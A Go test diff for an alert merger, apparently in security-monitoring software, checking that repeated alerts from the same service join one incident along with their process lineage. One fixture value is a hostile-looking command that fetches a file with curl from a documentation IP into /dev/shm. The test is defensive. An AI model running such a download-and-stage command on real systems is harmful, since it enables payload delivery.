@@ -94,3 +94,35 @@ func TestAServicesOwnCheckIsOneIncident(t *testing.T) {
 		}
 	}
 }
+
+// TestAnEchoTiesItsLineage: a repeat that would have joined ties whatever its
+// lineage raises or writes; one that would not is counted and no more.
+func TestAnEchoTiesItsLineage(t *testing.T) {
+	command := alert.Entity{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /dev/shm/x"}
+	for name, c := range map[string]struct {
+		service string
+		tied    bool
+	}{"the same service": {"service:1", true}, "another service": {"service:2", false}} {
+		m := newMerger()
+		first := high("first", "L1", command)
+		first.Service = "service:1"
+		id := add(m, first)
+		repeat := high("repeat", "L2", command)
+		repeat.Service = c.service
+		now := start.UnixNano()
+		if got := m.Echo(repeat, "first", Facts{Shell: true}, now); got != c.tied || m.Echoes("L2", "first", now) != c.tied {
+			t.Fatalf("%s: echo %v", name, got)
+		}
+		m.Flow("", "L2", "L3", "h1:/opt/x", now)
+		if got := add(m, high("next", "L2")); (got == id) != c.tied {
+			t.Errorf("%s: the next alert is in %q, the first in %q", name, got, id)
+		}
+		if got := add(m, high("ran its file", "L3")); (got == id) != c.tied {
+			t.Errorf("%s: who ran its file is in %q, the first in %q", name, got, id)
+		}
+	}
+	m := newMerger()
+	if m.Echo(high("repeat", "L2"), "nobody", Facts{}, 0) || m.Known("nobody") {
+		t.Error("an alert that is not known was repeated")
+	}
+}
